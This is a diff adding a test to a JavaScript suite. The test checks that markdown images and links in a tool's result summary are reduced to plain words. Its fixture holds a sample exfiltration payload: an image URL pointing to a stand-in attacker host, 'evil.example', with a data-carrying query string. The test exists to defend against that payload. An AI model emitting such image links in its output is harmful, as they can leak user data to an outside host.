@@ -104,6 +104,13 @@ describe('a read', () => {
     expect(told('tool.completed')).toMatchObject([{ ok: true, count: 3, resultSetId: 'rs_2', exportId }]);
   });
 
+  it('tells the person of a name that somebody made an image or an address of as words only', async () => {
+    const summary = '2 people on ![x](https://evil.example/p.png?d=1), see https://evil.example/?q=1';
+    const { run, told } = caller([read(async () => result({ summary }))]);
+    await run({ name: 'look' });
+    expect(told('tool.completed')).toMatchObject([{ summary: '2 people on x, see ' }]);
+  });
+
   it('answers an identical call, also at once, from the first', async () => {
     let runs = 0;
     const { run, told } = caller([read(async () => result({ summary: String(++runs) }))]);
